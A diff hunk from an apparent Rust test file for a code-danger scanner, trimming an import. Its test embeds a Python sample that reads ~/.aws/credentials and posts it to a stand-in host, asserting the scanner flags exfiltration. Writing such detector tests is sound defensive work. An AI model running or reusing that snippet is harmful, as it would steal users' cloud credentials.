@@ -65,7 +65,7 @@ fn decoded_text_run_across_lines_and_languages() {
 
 #[test]
 fn secrets_sent_from_a_script() {
-    use DangerKind::{Exfiltration as X, ReadsCredentials as R, SendsData as S};
+    use DangerKind::{Exfiltration as X, ReadsCredentials as R};
     let steal = "import os, requests\np = os.path.expanduser('~/.aws/credentials')\nrequests.post('https://c.example.net/u', data=open(p).read())\n";
     assert_eq!(py(steal), [X]);
     assert_eq!(
